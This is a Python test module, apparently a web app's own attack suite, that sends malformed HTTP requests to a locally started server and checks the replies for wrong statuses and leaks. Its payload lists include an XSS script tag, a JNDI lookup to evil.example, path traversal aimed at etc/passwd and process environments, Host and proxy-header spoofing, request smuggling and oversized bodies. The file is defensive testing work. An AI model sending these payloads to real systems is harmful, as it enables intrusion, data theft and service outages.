"""HTTP requests that no browser of an own page sends, and downloads whose clients leave."""

import socket
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass
from random import Random
from urllib.parse import quote

from tests.attack.budget import Budget
from tests.attack.row import Row
from tests.attack.target import Target, leaks, target
from tests.support.asking import ask
from tests.support.damage import mutated
from tests.support.processes import comes_true
from tests.view.test_strangers import HOSTILE

Made = Callable[[Random, str], bytes]
HOSTILE_VALUES = (
    '/x"></script><script>alert(1)</script>', "/evil", "//evil.example", "evil.example", "javascript:alert(1)",
    "/../..", "/" + "x" * 5000, "{{7*7}}", "${jndi:ldap://evil.example}", "https", "127.0.0.1, 8.8.8.8", "%0d%0aX: 1",
)  # fmt: skip
PROXY = ("X-Script-Name", "Script-Name", "X-Forwarded-Prefix", "X-Forwarded-Host", "X-Forwarded-Proto", "Forwarded")
PROXY += (
    "X-Forwarded-For",
    "X-Forwarded-Port",
    "X-Real-IP",
    "X-Original-URL",
    "X-Rewrite-URL",
    "X-HTTP-Method-Override",
)
HOSTS = (
    "evil.example",
    "evil.example:80",
    "127.0.0.1.evil.example",
    "",
    "[::1",
    "a b",
    "0.0.0.0",
    "169.254.169.254",
    "é",
)
OUT = (
    "../" * 6,
    "..%2f" * 6,
    "%2e%2e/" * 6,
    "..%5c" * 6,
    "....//" * 6,
    "%252e%252e%252f" * 6,
    "/",
    "..;/" * 6,
    "%c0%ae/" * 6,
)
FILES = ("etc/passwd", "pyproject.toml", "pyvenv.cfg", "proc/self/environ", "people.csv", "%00", ".git/config")
FOLDERS = (
    "/static/assets/",
    "/_solara/cdn/",
    "/jupyter/nbextensions/jupyter-vue/",
    "/download/",
    "/",
    "/static/public/",
)
PAGES = ("/", "/explore", "/compare", "/build", "/lessons")
QUERY = b"scenario=public-sector-ai&strategy=early-wins&seed=3&week=4&names=1&show-people=1&people=people.csv"
REFUSED = {400, 403, 404, 405, 408, 413, 414, 421, 429, 431}


def _request(host: str, path: str, method: str = "GET", *more: tuple[str, str], body: bytes = b"") -> bytes:
    lines = [f"{method} {path} HTTP/1.1", f"Host: {host}", "Connection: close", *(f"{a}: {b}" for a, b in more)]
    return "\r\n".join([*lines, "", ""]).encode("utf-8") + body


def _scripts(luck: Random, host: str) -> bytes:
    path = luck.choice(HOSTILE) + luck.choice(("", "?x=1", "/", "//"))
    return _request(host, path, luck.choice(("GET", "GET", "GET", "DELETE", "PUT", "POST")))


def _proxied(luck: Random, host: str) -> bytes:
    more = [(luck.choice(PROXY), luck.choice(HOSTILE_VALUES)) for _ in range(luck.randint(1, 4))]
    return _request(host, luck.choice(PAGES), "GET", *more)


def _elsewhere(luck: Random, host: str) -> bytes:
    return _request(luck.choice(HOSTS), luck.choice((*PAGES, "/readyz", "/download/run.csv", "/static/assets/map.js")))


def _foreign(luck: Random, host: str) -> bytes:
    origins = ("http://evil.example", "null", "https://" + host, "file://", f"http://{host}.evil.example", "", "*")
    sites = (
        ("Sec-Fetch-Site", luck.choice(("cross-site", "same-site"))),
        ("Sec-Fetch-Mode", luck.choice(("cors", "no-cors"))),
    )
    more = sites if luck.random() < 0.5 else (("Origin", luck.choice(origins)),)
    return _request(host, luck.choice((*PAGES, "/download/run.csv?names=1", "/readyz")), "GET", *more)


def _outwards(luck: Random, host: str) -> bytes:
    return _request(host, luck.choice(FOLDERS) + luck.choice(OUT) + luck.choice(FILES))


def _oversized(luck: Random, host: str) -> bytes:
    which, size = luck.randrange(6), luck.choice((400_000, 3_000_000))
    if which == 0:
        return _request(host, "/explore?" + "x" * size)
    if which == 1:
        return _request(host, "/explore", "GET", ("X-Large", "x" * size))
    if which == 2:
        return _request(host, "/explore", "GET", *(("X-Many", "x") for _ in range(size // 100)))
    if which == 3:
        return _request(host, "/explore", "POST", ("Content-Length", str(size)), body=b"x" * size)
    if which == 4:
        return _request(host, "/explore", "POST", ("Transfer-Encoding", "chunked"), body=b"fffffff\r\n" + b"x" * size)
    return _request(host, "/" + "x" * luck.choice((251, 4000, 70_000)))


def _no_http(luck: Random, host: str) -> bytes:
    twice = (("Content-Length", "5"), ("Transfer-Encoding", "chunked"))
    made = (
        luck.randbytes(luck.randint(1, 3000)) + b"\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
        b"GET /explore\r\n\r\n",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        _request(host, "/explore", "POST", *twice, body=b"0\r\n\r\nGET /readyz HTTP/1.1\r\n\r\n"),
        _request(host, "/explore", "GET", ("Content-Length", "-1")),
        _request(host, "/explore", "GET", ("Content-Length", "9" * 5000)),
        _request(host, "/explore", "GET", ("X\0Y", "1")),
        _request(host, "/expl\x00ore"),
        _request(host, "/explore", "BREW"),
        _request(host, "/explore", "GET", ("Upgrade", "h2c"), ("HTTP2-Settings", "AAMAAABkAAQAAP__")),
    )
    return luck.choice(made)


def _query(luck: Random) -> str:
    return quote(mutated(luck, QUERY)[:20_000], safe="&=")


def _pages(luck: Random, host: str) -> bytes:
    return _request(host, f"{luck.choice(PAGES)}?{_query(luck)}")


def _downloads(luck: Random, host: str) -> bytes:
    return _request(
        host, f"/download/{luck.choice(('run.csv', 'strategy.toml', 'run.csv', 'all.csv', 'run.svg'))}?{_query(luck)}"
    )


def _cookies(luck: Random, host: str) -> bytes:
    port = host.rpartition(":")[2]
    values = (
        f"buyin-{port}=a.b",
        f"buyin-{port}=" + "A" * 24 + "." + "0" * 64,
        "solara-session-id=1",
        "x=" + "y" * 60_000,
        ";;;=",
    )
    return _request(host, luck.choice(PAGES), "GET", ("Cookie", luck.choice(values)))


@dataclass(frozen=True)
class Kind:
    """How a request is made, which statuses may answer it, and what no answer may hold."""

    made: Made
    allowed: set[int]
    never: bytes = b"\0no answer holds this"


KINDS = {
    "addresses that made it fetch or delete scripts": Kind(_scripts, {400, 404, 405, 414}),
    "`X-Script-Name`, `X-Forwarded-*` and others of a proxy": Kind(_proxied, {200}, b"evil"),
    "`Host` of another": Kind(_elsewhere, {400, 421}),
    "`Origin` or `Sec-Fetch-Site` of another's page": Kind(_foreign, {403}),
    "paths that lead out of a folder": Kind(_outwards, {400, 404, 405, 414}, b"root:x:"),
    "oversized addresses, headers and bodies": Kind(_oversized, {400, 413, 414, 431}),
    "what is no proper HTTP": Kind(_no_http, REFUSED | {200}),
    "damaged addresses of pages": Kind(_pages, {200, 400, 414}),
    "damaged addresses of downloads": Kind(_downloads, {200, 400, 404, 414}),
    "cookies of another": Kind(_cookies, {200, 400, 431}),
}


def requests(budget: Budget, seed: int) -> Iterator[Row]:
    """The kinds in turn, each shared out evenly."""
    with target() as server:
        for name, kind in KINDS.items():
            luck = Random(f"{seed} {name}")
            with server.bearing(Row(name)) as row:
                for _ in budget.numbers(-(-budget.times // len(KINDS))):
                    _try(server, row, kind, kind.made(luck, server.host))
            yield row


def _try(server: Target, row: Row, kind: Kind, sent: bytes) -> None:
    with server.timed(row) as ends:
        answer = answered(server, sent)
        status = int(answer[9:12]) if answer.startswith(b"HTTP/1.1 ") else 0
        ends.append(
            "ended without a word" if not status else ("answered" if status < 400 else f"refused with {status}")
        )
        if status and status not in kind.allowed:
            row.wrong.append(f"status {status} for {sent[:60]!r}")
        row.wrong += leaks(answer) + (["an answer holds what was sent"] if kind.never in answer else [])


def answered(server: Target, sent: bytes) -> bytes:
    """The whole answer; what comes before the server ends the connection."""
    found = b""
    with suppress(ConnectionError), connected(server) as line:
        with suppress(ConnectionError):
            line.sendall(sent)
        while part := line.recv(65536):
            found += part
    return found


def connected(server: Target) -> socket.socket:
    """A connection to it; an answer that does not come in a minute is none."""
    host, port = server.host.split(":")
    return socket.create_connection((host, int(port)), timeout=60)


def downloads(budget: Budget, seed: int) -> Iterator[Row]:
    """Large downloads, each of a visitor of its own who leaves while it is made."""
    luck = Random(f"{seed} downloads")
    with target() as server, server.bearing(Row("large downloads whose clients leave")) as row:
        lines = []
        for number in budget.numbers():
            query = f"scenario=public-health-vaccination&replicates=200&with=early-wins&seed={seed + number}"
            cookie = ask(server.url, "/explore").cookie
            lines.append(connected(server))
            lines[-1].sendall(_request(server.host, f"/download/comparison.csv?{query}", "GET", ("Cookie", cookie)))
        if ask(server.url, "/static/assets/map.js").status != 200:
            row.wrong.append("a script is not answered meanwhile")
        before = server.spent()
        luck.shuffle(lines)
        for line in lines:
            line.close()
            row.add("left")
        if not comes_true(lambda: _idle(server)):
            row.wrong.append("the server goes on computing")
        row.seconds = server.spent() - before
    yield row


def _idle(server: Target) -> bool:
    import time

    before = server.spent()
    time.sleep(1)
    return server.spent() - before < 0.1
